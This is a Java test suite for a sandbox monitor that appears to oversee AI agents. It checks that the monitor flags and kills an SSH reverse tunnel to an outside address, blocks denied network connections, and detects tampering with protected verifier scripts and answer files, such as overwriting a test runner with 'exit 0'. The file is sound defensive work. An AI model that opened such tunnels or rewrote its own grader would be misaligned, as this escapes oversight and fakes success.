package dev.ale.monitor;

import dev.ale.core.event.Category;
import dev.ale.core.event.SafetyEvent.Action;
import dev.ale.core.event.SafetyEvent;
import dev.ale.core.net.ConnectionRecord;
import dev.ale.core.net.DnsRecord;
import dev.ale.core.passport.Passport;
import dev.ale.core.sandbox.ExecRequest;
import dev.ale.core.sandbox.ExecResult;
import dev.ale.core.sandbox.Sandbox;
import dev.ale.core.sandbox.SandboxInfo;
import dev.ale.core.sandbox.ShellSession;
import dev.ale.monitor.kill.KillSwitch;
import dev.ale.monitor.rules.RuleId;
import dev.ale.sandbox.testing.RealSandboxes;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import java.util.Map;
import java.util.OptionalInt;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/** A watch over a real sandbox: pre-exec checks, gateway records, protected paths, benign work and the kill switch. */
@Tag("root")
class WatchTest {

    @RegisterExtension
    static final RealSandboxes sandboxes = new RealSandboxes();

    @Test
    void sshRemoteForwardIsForbiddenBeforeItRunsAndKillsTheSandbox() {
        Passport passport = Passport.defaults();
        Sandbox s = sandboxes.sandbox(passport);
        KillSwitch kill = new KillSwitch();
        kill.register(s);
        Events events = new Events(kill);
        try (Monitor monitor = new Monitor(events); Watch watch = monitor.watch(s, passport, Optional.of("ep-1"))) {
            watch.setStep(7);

            List<SafetyEvent> found = watch.checkShellCommand("ssh -fNR 9000:localhost:22 agent@203.0.113.5");

            assertThat(found).extracting(SafetyEvent::rule).contains("tunnel.ssh.remote-forward");
            assertThat(Watch.forbids(found)).isTrue();
            assertThat(found).allSatisfy(e -> {
                assertThat(e.step()).hasValue(7);
                assertThat(e.episode()).contains("ep-1");
                assertThat(e.passportId()).isEqualTo(passport.id());
                assertThat(e.evidence()).containsEntry("source", "pre-exec");
            });
            assertThat(events.all()).containsAll(found);
            await().atMost(Events.PATIENCE).until(() -> s.info().state() == SandboxInfo.State.KILLED);
            assertThat(s.info().killReason()).hasValueSatisfying(r -> assertThat(r).startsWith("tunnel."));
        }
    }

    @Test
    void ordinaryCommandsPassThePreExecCheck() {
        Passport passport = Passport.defaults();
        Sandbox s = sandboxes.sandbox(passport);
        try (Monitor monitor = new Monitor(new Events()); Watch watch = monitor.watch(s, passport, Optional.empty())) {
            List<SafetyEvent> found = watch.checkCommand(List.of("ls", "-la", "/workspace"));

            assertThat(found).isEmpty();
            assertThat(Watch.forbids(found)).isFalse();
            assertThat(watch.checkShellCommand("pytest -q tests/ && git diff --stat")).isEmpty();
        }
    }

    @Test
    void gatewayRecordsAreJudgedForTheirOwnSandboxOnce() {
        Passport passport = Passport.defaults();
        Sandbox s = sandboxes.sandbox(passport);
        KillSwitch kill = new KillSwitch();
        kill.register(s);
        Events events = new Events(kill);
        try (Monitor monitor = new Monitor(events); Watch watch = monitor.watch(s, passport, Optional.of("ep-net"))) {
            watch.setStep(2);
            monitor.accept(new DnsRecord("sb-notwatched", Instant.now(), "metadata.google.internal", "A", false, List.of()));
            assertThat(events.all()).isEmpty();

            var ssh = new ConnectionRecord(s.id(), Instant.now(), "203.0.113.5", 443, "ssh", Optional.empty(),
                    "SSH-2.0-OpenSSH_9.6", "SSH-2.0-OpenSSH_9.6\\r\\n");
            monitor.accept(ssh);
            monitor.accept(ssh);

            assertThat(events.rules()).containsExactlyInAnyOrder(RuleId.EGRESS_DENIED_CONNECTION.id(), RuleId.TUNNEL_NET_SSH_BANNER.id());
            SafetyEvent tunnel = events.await(RuleId.TUNNEL_NET_SSH_BANNER.id());
            assertThat(tunnel.action()).isEqualTo(Action.KILL);
            assertThat(tunnel.step()).hasValue(2);
            assertThat(tunnel.time()).isEqualTo(ssh.time());
            assertThat(events.await(RuleId.EGRESS_DENIED_CONNECTION.id()).action()).isEqualTo(Action.BLOCK);
            await().atMost(Events.PATIENCE).until(() -> s.info().state() == SandboxInfo.State.KILLED);
            assertThat(s.info().killReason()).hasValue(RuleId.TUNNEL_NET_SSH_BANNER.id());
        }
    }

    @Test
    void rewritingAProtectedFileAfterSealingIsTamper() {
        Passport passport = Passport.defaults().withProtectedPaths(List.of("/workspace/tests/run.sh", "/workspace/answers"));
        Sandbox s = sandboxes.sandbox(passport);
        Events events = new Events();
        try (Monitor monitor = new Monitor(events); Watch watch = monitor.watch(s, passport, Optional.empty());
             ShellSession sh = s.openSession()) {
            s.files().write("/workspace/tests/run.sh", "#!/bin/sh\npytest -q\n".getBytes(StandardCharsets.UTF_8));
            s.files().write("/workspace/answers/a.txt", "42\n".getBytes(StandardCharsets.UTF_8));
            watch.sealProtected();

            watch.callStarted(false);
            sh.run("cat /workspace/tests/run.sh; ls /workspace/answers");
            assertThat(watch.callEnded()).isEmpty();

            watch.callStarted(false);
            sh.run("echo 'exit 0' > /workspace/tests/run.sh; echo 41 > /workspace/answers/b.txt");
            List<SafetyEvent> atEnd = watch.callEnded();

            assertThat(atEnd).extracting(SafetyEvent::rule).containsExactlyInAnyOrder(RuleId.TAMPER_PROTECTED_CHANGED.id(), RuleId.TAMPER_PROTECTED_ADDED.id());
            assertThat(atEnd).allSatisfy(e -> assertThat(e.category()).isEqualTo(Category.TAMPER));
            assertThat(atEnd).anySatisfy(e -> assertThat(e.evidence()).containsEntry("path", "/workspace/tests/run.sh"));
            // the periodic check finds the same change and does not report it again
            watch.callStarted(false);
            assertThat(watch.callEnded()).isEmpty();
        }
    }

    @Test
    void aCommandNamingAProtectedPathIsFlaggedOnlyAfterSetup() {
        Passport passport = Passport.defaults().withProtectedPaths(List.of("/workspace/tests"));
        Sandbox s = sandboxes.sandbox(passport);
        Events events = new Events();
        try (Monitor monitor = new Monitor(events); Watch watch = monitor.watch(s, passport, Optional.empty())) {
            assertThat(watch.checkShellCommand("mkdir -p /workspace/tests && cp /tmp/t.py /workspace/tests/"))
                    .as("setup puts the verifier's files in place").isEmpty();
            watch.sealProtected();

            List<SafetyEvent> read = watch.checkShellCommand("cat /workspace/tests/test_solution.py | head");
            List<SafetyEvent> other = watch.checkCommand(List.of("ls", "/workspace/tests2", "/workspace/testsuite"));

            assertThat(read).singleElement().satisfies(e -> {
                assertThat(e.rule()).isEqualTo(RuleId.TAMPER_PROTECTED_NAMED.id());
                assertThat(e.category()).isEqualTo(Category.TAMPER);
                assertThat(e.action()).isEqualTo(Action.ALERT);
                assertThat(e.evidence()).containsEntry("path", "/workspace/tests");
            });
            assertThat(other).as("a path that merely starts with the same letters").isEmpty();
        }
    }

    @Test
    void removingAProtectedFileIsFoundByThePeriodicCheck() {
        Passport passport = Passport.defaults().withProtectedPaths(List.of("/workspace/tests/run.sh"));
        Sandbox s = sandboxes.sandbox(passport);
        Events events = new Events();
        Monitor.Config fast = Monitor.Config.defaults().withIntegrityPeriod(Duration.ofMillis(300));
        try (Monitor monitor = new Monitor(events, fast); Watch watch = monitor.watch(s, passport, Optional.empty())) {
            s.files().write("/workspace/tests/run.sh", "#!/bin/sh\npytest -q\n".getBytes(StandardCharsets.UTF_8));
            watch.sealProtected();

            s.exec(ExecRequest.of("rm", "/workspace/tests/run.sh"));

            assertThat(events.await(RuleId.TAMPER_PROTECTED_REMOVED.id()).evidence()).containsEntry("after", "missing");
        }
    }

    @Test
    void benignWorkRaisesNothing() throws Exception {
        Passport passport = Passport.defaults();
        Sandbox s = sandboxes.sandbox(passport);
        KillSwitch kill = new KillSwitch();
        kill.register(s);
        Events events = new Events(kill);
        try (Monitor monitor = new Monitor(events); Watch watch = monitor.watch(s, passport, Optional.of("ep-ok"));
             ShellSession sh = s.openSession()) {
            s.files().write("/workspace/hello.c", """
                    #include <stdio.h>
                    int main(void) { long s = 0; for (long i = 0; i < 1000000; i++) s += i; printf("sum %ld\\n", s); return 0; }
                    """.getBytes(StandardCharsets.UTF_8));
            List<String> steps = List.of(
                    "for i in $(seq 1 200); do echo \"line $i foo bar\"; done > /tmp/a.txt; grep -c foo /tmp/a.txt; "
                            + "sed -n 1,3p /tmp/a.txt | awk '{print $2}'; sed -i 's/foo/baz/' /tmp/a.txt; grep -c baz /tmp/a.txt",
                    "python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & "
                            + "for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.1; done; "
                            + "curl -s http://127.0.0.1:8000/ | head -c 40; kill $!; wait",
                    "if command -v cc >/dev/null; then cc -O2 -o /tmp/hello /workspace/hello.c && /tmp/hello; fi",
                    "ls -la /workspace; cat /workspace/hello.c | wc -l; find /workspace -name '*.c'");
            int step = 0;
            for (String command : steps) {
                watch.setStep(step++);
                assertThat(watch.checkShellCommand(command)).as(command).isEmpty();
                watch.callStarted(false);
                ExecResult r = sh.run(command);
                assertThat(r.exitCode()).as(command + " -> " + r).isZero();
                assertThat(watch.callEnded()).as(command).isEmpty();
            }
            watch.callStarted(false);
            ExecResult exec = s.exec(ExecRequest.of("/bin/bash", "-c", "seq 1 1000 | awk '{s+=$1} END {print s}'"));
            assertThat(exec.stdout()).isEqualTo("500500\n");
            assertThat(watch.callEnded()).isEmpty();
            // let a few more sweeps pass over the idle session; none may raise anything
            for (int i = 0; i < 5; i++) watch.sweep();

            assertThat(events.all()).isEmpty();
            assertThat(s.info().state()).isEqualTo(SandboxInfo.State.RUNNING);
        }
    }

    @Test
    void killSwitchActsOnlyOnKillAndOnlyOnce() {
        Sandbox s = sandboxes.sandbox(Passport.defaults());
        Sandbox other = sandboxes.sandbox(Passport.defaults());
        KillSwitch kill = new KillSwitch();
        kill.register(s);
        kill.register(other);

        kill.accept(event(s, "egress-denied.connection", Action.BLOCK));
        kill.accept(event(s, "persistence.detached", Action.ALERT));
        assertThat(kill.hasKilled(s.id())).isFalse();

        kill.accept(event(s, "mining.net.stratum-login", Action.KILL));
        kill.accept(event(s, "tunnel.net.ssh-banner", Action.KILL));
        kill.accept(event("sb-unknown", "tunnel.net.ssh-banner", Action.KILL));

        await().atMost(Events.PATIENCE).until(() -> s.info().state() == SandboxInfo.State.KILLED);
        assertThat(s.info().killReason()).hasValue("mining.net.stratum-login");
        assertThat(other.info().state()).isEqualTo(SandboxInfo.State.RUNNING);
        assertThat(other.exec(ExecRequest.of("true")).exitCode()).isZero();
    }

    private static SafetyEvent event(Sandbox s, String rule, Action action) {
        return event(s.id(), rule, action);
    }

    private static SafetyEvent event(String sandbox, String rule, Action action) {
        return new SafetyEvent(rule, Category.fromWire(rule.substring(0, rule.indexOf('.'))).orElse(Category.PROBE),
                SafetyEvent.Severity.HIGH, action, sandbox, Optional.empty(), OptionalInt.empty(), "default", Optional.of("sha256:" + "ab".repeat(32)),
                Instant.now(), rule, Map.of());
    }
}
